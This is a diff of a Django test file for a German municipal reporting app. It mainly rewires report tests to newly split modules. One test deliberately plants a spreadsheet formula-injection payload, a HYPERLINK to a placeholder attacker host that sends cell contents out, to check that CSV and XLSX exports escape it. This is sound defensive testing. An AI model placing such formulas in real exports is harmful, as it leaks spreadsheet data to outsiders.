@@ -17,8 +17,14 @@ from django.utils import timezone
 
 from leuchtfeuer.accounts.models import Role
 from leuchtfeuer.core.models import AuditEntry
-from leuchtfeuer.werkstatt import report_exports, reports, services
 from leuchtfeuer.werkstatt.models import Indicator, Process, Report
+from leuchtfeuer.werkstatt.process import services as process_services
+from leuchtfeuer.werkstatt.reports import documents as report_documents
+from leuchtfeuer.werkstatt.reports import exports as report_exports
+from leuchtfeuer.werkstatt.reports import formatting as report_formatting
+from leuchtfeuer.werkstatt.reports import office as report_office
+from leuchtfeuer.werkstatt.reports import selectors as report_selectors
+from leuchtfeuer.werkstatt.reports import services as report_services
 from leuchtfeuer.werkstatt.tests import report_builders
 
 pytestmark = pytest.mark.django_db
@@ -35,22 +41,22 @@ def office(user_factory):
 # ------------------------------------------------------------------------- pure arithmetic
 def test_time_share_hand_computed():
     # 01.01.2025 → 31.12.2026 is 729 days; on 31.12.2025 364 of them have passed.
-    assert reports.time_share(date(2025, 1, 1), 2026, date(2025, 12, 31)) == pytest.approx(364 / 729)
-    assert reports.time_share(date(2025, 1, 1), 2026, date(2024, 6, 1)) == 0.0  # before the start
-    assert reports.time_share(date(2025, 1, 1), 2026, date(2030, 1, 1)) == 1.0  # after the end
-    assert reports.time_share(None, 2026, date(2025, 1, 1)) is None
-    assert reports.time_share(date(2027, 1, 1), 2026, date(2025, 1, 1)) is None  # empty period
+    assert report_selectors.time_share(date(2025, 1, 1), 2026, date(2025, 12, 31)) == pytest.approx(364 / 729)
+    assert report_selectors.time_share(date(2025, 1, 1), 2026, date(2024, 6, 1)) == 0.0  # before the start
+    assert report_selectors.time_share(date(2025, 1, 1), 2026, date(2030, 1, 1)) == 1.0  # after the end
+    assert report_selectors.time_share(None, 2026, date(2025, 1, 1)) is None
+    assert report_selectors.time_share(date(2027, 1, 1), 2026, date(2025, 1, 1)) is None  # empty period
 
 
 def test_default_due_is_31_january_of_the_next_year():
-    assert reports.default_due(2025) == date(2026, 1, 31)
+    assert report_services.default_due(2025) == date(2026, 1, 31)
 
 
 def test_german_number_formatting():
-    assert reports._fmt_money(Decimal("2000.50")) == "2.000,50 €"
-    assert reports._fmt_number(Decimal("90.000")) == "90"
-    assert reports._fmt_number(Decimal("12.500")) == "12,5"
-    assert reports._fmt_number(None) == "–"
+    assert report_formatting.fmt_money(Decimal("2000.50")) == "2.000,50 €"
+    assert report_formatting.fmt_number(Decimal("90.000")) == "90"
+    assert report_formatting.fmt_number(Decimal("12.500")) == "12,5"
+    assert report_formatting.fmt_number(None) == "–"
 
 
 # ------------------------------------------------------------------------- traffic light
@@ -83,7 +89,7 @@ def test_traffic_light_against_hand_computed_values(
         target_value=target,
     )
     indicator.readings.create(date=date(2025, 6, 1), value=current)
-    (row,) = reports.indicator_rows(
+    (row,) = report_selectors.indicator_rows(
         zb, today=date(2025, 12, 31), indicators=Indicator.objects.filter(pk=indicator.pk)
     )
     assert (row.share_percent, row.light, row.light_label) == (percent, light, label)
@@ -100,15 +106,15 @@ def test_no_light_without_a_value_newer_than_the_baseline(zb):
     )
     indicator.readings.create(date=date(2025, 6, 1), value=18)
     only = Indicator.objects.filter(pk=indicator.pk)
-    (row,) = reports.indicator_rows(zb, today=date(2025, 12, 31), indicators=only)
+    (row,) = report_selectors.indicator_rows(zb, today=date(2025, 12, 31), indicators=only)
     assert (row.share_percent, row.light) == ("–", "grau")
     indicator.readings.create(date=date(2025, 9, 1), value=18)  # (18 − 10) / (20 − 10) = 0.8
-    (row,) = reports.indicator_rows(zb, today=date(2025, 12, 31), indicators=only)
+    (row,) = report_selectors.indicator_rows(zb, today=date(2025, 12, 31), indicators=only)
     assert (row.share_percent, row.light) == ("80 %", "gruen")
 
 
 def test_zwischenbilanz_data_counts(zb):
-    data = reports.zwischenbilanz_data(zb, today=date(2025, 12, 31))
+    data = report_selectors.zwischenbilanz_data(zb, today=date(2025, 12, 31))
     (measure,) = data["measures"]
     assert measure.status_label == "in Umsetzung"
     assert measure.budget_total == Decimal("2000.50")
@@ -205,7 +211,7 @@ ZWISCHENBILANZ_FIGURES = [
 
 
 def test_zwischenbilanz_documents_contain_the_figures(zb):
-    doc = reports.zwischenbilanz_doc(reports.zwischenbilanz_data(zb))
+    doc = report_documents.zwischenbilanz_doc(report_selectors.zwischenbilanz_data(zb))
     html = _assert_in_every_format(doc, ZWISCHENBILANZ_FIGURES)
     assert 'class="light light-gruen"' in html and 'class="light light-gelb"' in html
     # Compare without spaces and hyphens: the PDF breaks and hyphenates words across lines.
@@ -218,8 +224,8 @@ def test_zwischenbilanz_documents_contain_the_figures(zb):
 
 def test_kurzbericht_documents_contain_process_data_and_texts(coordinator, zb):
     year = timezone.localdate().year
-    report = reports.report_for_year(actor=coordinator, process=zb, year=year)
-    reports.report_update(
+    report = report_services.report_for_year(actor=coordinator, process=zb, year=year)
+    report_services.report_update(
         actor=coordinator,
         report=report,
         summary="Ein Jahr mit zwei Rückkehrertagen.",
@@ -227,10 +233,10 @@ def test_kurzbericht_documents_contain_process_data_and_texts(coordinator, zb):
         challenges="Wenig Räume.",
         next_steps="Probewohnen vorbereiten.",
     )
-    task = services.task_create(actor=coordinator, process=zb, title="Flyer drucken")
-    services.task_complete(actor=coordinator, task=task)
+    task = process_services.task_create(actor=coordinator, process=zb, title="Flyer drucken")
+    process_services.task_complete(actor=coordinator, task=task)
     report.refresh_from_db()
-    doc = reports.kurzbericht_doc(reports.kurzbericht_data(report))
+    doc = report_documents.kurzbericht_doc(report_selectors.kurzbericht_data(report))
     expected = [
         f"Kurzbericht {year}",
         "Zwischenbilanz",  # current stage
@@ -257,15 +263,15 @@ def test_kurzbericht_documents_contain_process_data_and_texts(coordinator, zb):
 def test_submit_sets_status_audits_and_mails_the_office(
     coordinator, zb, office, django_capture_on_commit_callbacks
 ):
-    report = reports.report_for_year(actor=coordinator, process=zb, year=2025)
+    report = report_services.report_for_year(actor=coordinator, process=zb, year=2025)
     with pytest.raises(ValidationError) as missing:
-        reports.report_submit(actor=coordinator, report=report)
+        report_services.report_submit(actor=coordinator, report=report)
     assert "Zusammenfassung" in missing.value.messages[0] and "Nächste Schritte" in missing.value.messages[0]
-    reports.report_update(
+    report_services.report_update(
         actor=coordinator, report=report, summary="S", highlights="H", challenges="", next_steps="N"
     )
     with django_capture_on_commit_callbacks(execute=True):
-        reports.report_submit(actor=coordinator, report=report, base_url="https://lf.example")
+        report_services.report_submit(actor=coordinator, report=report, base_url="https://lf.example")
     report.refresh_from_db()
     assert report.status == Report.Status.SUBMITTED
     assert report.submitted_at is not None and report.submitted_by == coordinator
@@ -276,76 +282,78 @@ def test_submit_sets_status_audits_and_mails_the_office(
     assert "https://lf.example/geschaeftsstelle/werkstatt/" in message.body
     # Submitted: no more edits, no second submission.
     with pytest.raises(ValidationError):
-        reports.report_update(
+        report_services.report_update(
             actor=coordinator, report=report, summary="x", highlights="", challenges="", next_steps=""
         )
     with pytest.raises(ValidationError):
-        reports.report_submit(actor=coordinator, report=report)
+        report_services.report_submit(actor=coordinator, report=report)
 
 
 def test_no_mail_when_the_submission_rolls_back(coordinator, zb, office, django_capture_on_commit_callbacks):
     from django.db import transaction
 
-    report = reports.report_for_year(actor=coordinator, process=zb, year=2025)
-    reports.report_update(
+    report = report_services.report_for_year(actor=coordinator, process=zb, year=2025)
+    report_services.report_update(
         actor=coordinator, report=report, summary="S", highlights="H", challenges="", next_steps="N"
     )
     with django_capture_on_commit_callbacks(execute=True), pytest.raises(RuntimeError), transaction.atomic():
-        reports.report_submit(actor=coordinator, report=report)
+        report_services.report_submit(actor=coordinator, report=report)
         raise RuntimeError("crash after submit")
     report.refresh_from_db()
     assert report.status == Report.Status.DRAFT and not mail.outbox
 
 
 def test_office_returns_and_accepts(coordinator, zb, office, django_capture_on_commit_callbacks):
-    report = reports.report_for_year(actor=coordinator, process=zb, year=2025)
-    reports.report_update(
+    report = report_services.report_for_year(actor=coordinator, process=zb, year=2025)
+    report_services.report_update(
         actor=coordinator, report=report, summary="S", highlights="H", challenges="", next_steps="N"
     )
-    reports.report_submit(actor=coordinator, report=report)
+    report_services.report_submit(actor=coordinator, report=report)
     with pytest.raises(ValidationError) as no_comment:
-        reports.report_review(actor=office, report=report, accept=False)
+        report_services.report_review(actor=office, report=report, accept=False)
     assert "überarbeitet" in str(no_comment.value)
     with pytest.raises(PermissionDenied):
-        reports.report_review(actor=coordinator, report=report, accept=True)
+        report_services.report_review(actor=coordinator, report=report, accept=True)
     with django_capture_on_commit_callbacks(execute=True):
-        reports.report_review(actor=office, report=report, accept=False, comment="Bitte Kosten ergänzen.")
+        report_services.report_review(
+            actor=office, report=report, accept=False, comment="Bitte Kosten ergänzen."
+        )
     report.refresh_from_db()
     assert report.status == Report.Status.RETURNED and report.submitted_at is None
     assert mail.outbox[-1].to == [coordinator.email] and "Bitte Kosten ergänzen." in mail.outbox[-1].body
     # The town edits and submits again; the office accepts.
-    reports.report_update(
+    report_services.report_update(
         actor=coordinator, report=report, summary="S2", highlights="H", challenges="", next_steps="N"
     )
-    reports.report_submit(actor=coordinator, report=report)
-    reports.report_review(actor=office, report=report, accept=True)
+    report_services.report_submit(actor=coordinator, report=report)
+    report_services.report_review(actor=office, report=report, accept=True)
     report.refresh_from_db()
     assert report.status == Report.Status.ACCEPTED and report.submitted_at is not None
 
 
 def test_schedule_creates_and_moves_due_dates(coordinator, zb, office, municipality_factory, role_user):
     other = municipality_factory()
-    other_process = services.process_start(
+    other_process = process_services.process_start(
         actor=role_user(Role.KOORDINATION, other), municipality=other, started_on=date(2025, 3, 1)
     )
     late = municipality_factory()  # begun after the report year: no report for 2025
-    services.process_start(
+    process_services.process_start(
         actor=role_user(Role.KOORDINATION, late), municipality=late, started_on=date(2026, 3, 1)
     )
     Process.objects.filter(pk=zb.pk).update(started_on=date(2025, 2, 1))
-    own = reports.report_for_year(actor=coordinator, process=zb, year=2025)
+    own = report_services.report_for_year(actor=coordinator, process=zb, year=2025)
     assert own.due == date(2026, 1, 31)
     with pytest.raises(PermissionDenied):
-        reports.reports_schedule(actor=coordinator, year=2025, due=date(2026, 2, 28))
+        report_services.reports_schedule(actor=coordinator, year=2025, due=date(2026, 2, 28))
     with pytest.raises(ValidationError):
-        reports.reports_schedule(actor=office, year=2025, due=date(2024, 12, 31))
-    result = reports.reports_schedule(actor=office, year=2025, due=date(2026, 2, 28))
+        report_services.reports_schedule(actor=office, year=2025, due=date(2024, 12, 31))
+    result = report_services.reports_schedule(actor=office, year=2025, due=date(2026, 2, 28))
     assert result == {"created": 1, "changed": 1}
     assert Report.objects.get(process=other_process, year=2025).due == date(2026, 2, 28)
     own.refresh_from_db()
     assert own.due == date(2026, 2, 28)
     # Idempotent.
-    assert reports.reports_schedule(actor=office, year=2025, due=date(2026, 2, 28)) == {
+    assert report_services.reports_schedule(actor=office, year=2025, due=date(2026, 2, 28)) == {
         "created": 0,
         "changed": 0,
     }
@@ -353,12 +361,12 @@ def test_schedule_creates_and_moves_due_dates(coordinator, zb, office, municipal
 
 
 def test_submitted_report_keeps_its_due_date_when_rescheduled(coordinator, zb, office):
-    report = reports.report_for_year(actor=coordinator, process=zb, year=2025)
-    reports.report_update(
+    report = report_services.report_for_year(actor=coordinator, process=zb, year=2025)
+    report_services.report_update(
         actor=coordinator, report=report, summary="S", highlights="H", challenges="", next_steps="N"
     )
-    reports.report_submit(actor=coordinator, report=report)
-    reports.reports_schedule(actor=office, year=2025, due=date(2026, 3, 31))
+    report_services.report_submit(actor=coordinator, report=report)
+    report_services.reports_schedule(actor=office, year=2025, due=date(2026, 3, 31))
     report.refresh_from_db()
     assert report.due == date(2026, 1, 31)
 
@@ -367,29 +375,29 @@ def test_report_years_are_limited_to_the_process(coordinator, zb):
     this_year = timezone.localdate().year
     for year in (2024, this_year + 1):
         with pytest.raises(ValidationError) as error:
-            reports.report_for_year(actor=coordinator, process=zb, year=year)
+            report_services.report_for_year(actor=coordinator, process=zb, year=year)
         assert (
             f"seit Beginn des Prozesses (2025) bis zum laufenden Jahr ({this_year}), nicht für {year}"
             in str(error.value)
         )
-    assert reports.report_for_year(actor=coordinator, process=zb, year=this_year).year == this_year
+    assert report_services.report_for_year(actor=coordinator, process=zb, year=this_year).year == this_year
 
 
 def test_report_state(coordinator, zb):
-    report = reports.report_for_year(actor=coordinator, process=zb, year=2025)
-    assert reports.report_state(report, date(2026, 1, 31)) == ("offen, fällig am 31.01.2026", False)
-    assert reports.report_state(report, date(2026, 2, 1)) == ("überfällig seit 31.01.2026", True)
-    assert reports.report_state(None, date(2026, 2, 1)) == ("kein Bericht angelegt", False)
+    report = report_services.report_for_year(actor=coordinator, process=zb, year=2025)
+    assert report_office.report_state(report, date(2026, 1, 31)) == ("offen, fällig am 31.01.2026", False)
+    assert report_office.report_state(report, date(2026, 2, 1)) == ("überfällig seit 31.01.2026", True)
+    assert report_office.report_state(None, date(2026, 2, 1)) == ("kein Bericht angelegt", False)
 
 
 # ------------------------------------------------------------------------- evaluation table
 def test_evaluation_rows_and_exports(coordinator, zb, municipality):
-    report = reports.report_for_year(actor=coordinator, process=zb, year=2025)
-    reports.report_update(
+    report = report_services.report_for_year(actor=coordinator, process=zb, year=2025)
+    report_services.report_update(
         actor=coordinator, report=report, summary="S", highlights="H", challenges="", next_steps="N"
     )
-    reports.report_submit(actor=coordinator, report=report)
-    (row,) = reports.evaluation_rows(year=2025)
+    report_services.report_submit(actor=coordinator, report=report)
+    (row,) = report_office.evaluation_rows(year=2025)
     region = municipality.region
     assert row["ags"] == region.ags and row["name"] == municipality.display_name
     assert row["size_class"] == region.size_class
@@ -401,7 +409,7 @@ def test_evaluation_rows_and_exports(coordinator, zb, municipality):
     assert row["plan_adopted_on"] == date(2025, 8, 1) and row["plan_versions"] == 1
     assert row["closed_kickoff"] is not None and row["closed_zwischenbilanz"] is None
 
-    csv_text = report_exports.table_csv(reports.EVALUATION_COLUMNS, [row], ["Hinweis"])
+    csv_text = report_exports.table_csv(report_office.EVALUATION_COLUMNS, [row], ["Hinweis"])
     lines = csv_text.lstrip("\ufeff").splitlines()
     header = lines[0].split(";")
     values = lines[1].split(";")
@@ -412,7 +420,7 @@ def test_evaluation_rows_and_exports(coordinator, zb, municipality):
     from openpyxl import load_workbook
 
     workbook = load_workbook(
-        io.BytesIO(report_exports.table_xlsx(reports.EVALUATION_COLUMNS, [row], ["Hinweis"], title="T"))
+        io.BytesIO(report_exports.table_xlsx(report_office.EVALUATION_COLUMNS, [row], ["Hinweis"], title="T"))
     )
     sheet = workbook["Kommunen"]
     header = [c.value for c in sheet[1]]
@@ -428,9 +436,9 @@ def test_evaluation_exports_keep_hostile_names_as_text(coordinator, zb, municipa
     formula = '=HYPERLINK("https://angreifer.example/?d="&A2,"Details")'
     municipality.display_name = formula
     municipality.save(update_fields=["display_name"])
-    (row,) = reports.evaluation_rows(year=2025)
+    (row,) = report_office.evaluation_rows(year=2025)
     row["stage"] = "Zwischen\x0bbilanz\x01"
-    csv_text = report_exports.table_csv(reports.EVALUATION_COLUMNS, [row], ["-Hinweis+1"])
+    csv_text = report_exports.table_csv(report_office.EVALUATION_COLUMNS, [row], ["-Hinweis+1"])
     lines = list(csv.reader(io.StringIO(csv_text.lstrip("\ufeff")), delimiter=";"))
     values = dict(zip(lines[0], lines[1], strict=True))
     assert values["Kommune"] == "'" + formula
@@ -439,7 +447,7 @@ def test_evaluation_exports_keep_hostile_names_as_text(coordinator, zb, municipa
 
     from openpyxl import load_workbook
 
-    content = report_exports.table_xlsx(reports.EVALUATION_COLUMNS, [row], ["-Hinweis+1"], title="=T")
+    content = report_exports.table_xlsx(report_office.EVALUATION_COLUMNS, [row], ["-Hinweis+1"], title="=T")
     workbook = load_workbook(io.BytesIO(content))
     sheet = workbook["Kommunen"]
     header = [c.value for c in sheet[1]]
@@ -453,12 +461,16 @@ def test_evaluation_exports_keep_hostile_names_as_text(coordinator, zb, municipa
 
 def test_overdue_counts_in_office_rows(coordinator, zb, municipality_factory):
     today = timezone.localdate()
-    services.task_create(actor=coordinator, process=zb, title="alt", due_date=today - timedelta(days=3))
-    services.task_create(actor=coordinator, process=zb, title="neu", due_date=today + timedelta(days=3))
-    report = reports.report_for_year(actor=coordinator, process=zb, year=2025)
+    process_services.task_create(
+        actor=coordinator, process=zb, title="alt", due_date=today - timedelta(days=3)
+    )
+    process_services.task_create(
+        actor=coordinator, process=zb, title="neu", due_date=today + timedelta(days=3)
+    )
+    report = report_services.report_for_year(actor=coordinator, process=zb, year=2025)
     Report.objects.filter(pk=report.pk).update(due=today - timedelta(days=1))
     municipality_factory()  # a town without a process is listed too
-    rows = reports.office_rows(year=2025, today=today)
+    rows = report_office.office_rows(year=2025, today=today)
     with_process = next(r for r in rows if r.process)
     assert (with_process.open_tasks, with_process.overdue_tasks) == (2, 1)
     assert with_process.report_overdue and with_process.overdue_items == 2
@@ -466,7 +478,7 @@ def test_overdue_counts_in_office_rows(coordinator, zb, municipality_factory):
 
 
 def test_demo_loader_is_idempotent(coordinator, zb, office, municipality):
-    from leuchtfeuer.werkstatt import report_demo
+    from leuchtfeuer.werkstatt.reports import demo as report_demo
 
     users = {"geschaeftsstelle@demo": office, "koordination.malchin@demo": coordinator}
     for _ in range(2):
@@ -481,7 +493,7 @@ def test_demo_loader_is_idempotent(coordinator, zb, office, municipality):
 
 
 def test_profile_comparison_against_the_start(zb, monkeypatch):
-    from leuchtfeuer.werkstatt import selectors
+    from leuchtfeuer.werkstatt.kommunalprofil import selectors as kommunalprofil_selectors
 
     snapshot = zb.profile_snapshots.first()
     snapshot.profile = {
@@ -508,14 +520,14 @@ def test_profile_comparison_against_the_start(zb, monkeypatch):
         "population": {"value": 7100.0, "date": date(2024, 12, 31)},
         "share_65_plus": {"value": 28.637, "date": date(2015, 12, 31)},
     }
-    monkeypatch.setattr(selectors, "live_profile_indicators", lambda process: live)
-    rows = reports.profile_comparison(zb)
+    monkeypatch.setattr(kommunalprofil_selectors, "live_profile_indicators", lambda process: live)
+    rows = report_selectors.profile_comparison(zb)
     # 7,100 − 7,231 = −131 with a newer reference date; the 2015 share has no newer value.
     assert [(r.label, r.change, r.newer) for r in rows] == [
         ("Bevölkerung", -131.0, True),
         ("Anteil ab 65", 0.0, False),
     ]
-    text = reports.zwischenbilanz_doc(reports.zwischenbilanz_data(zb)).text()
+    text = report_documents.zwischenbilanz_doc(report_selectors.zwischenbilanz_data(zb)).text()
     for expected in (
         "Kommunalprofil: Ausgangslage und heute",
         "7.231",
@@ -533,7 +545,7 @@ def test_indicator_values_same_on_page_and_in_documents():
 
     page = Template("{% load werkstatt_reports %}{{ v|indicator_value }}|{{ n|indicator_value }}")
     for value, expected in ((Decimal("-21.951"), "-22"), (Decimal("1234.56"), "1.234,6"), (7, "7")):
-        assert reports.fmt_indicator_value(value) == expected
+        assert report_formatting.fmt_indicator_value(value) == expected
         assert page.render(Context({"v": value, "n": None})) == f"{expected}|–"
 
 
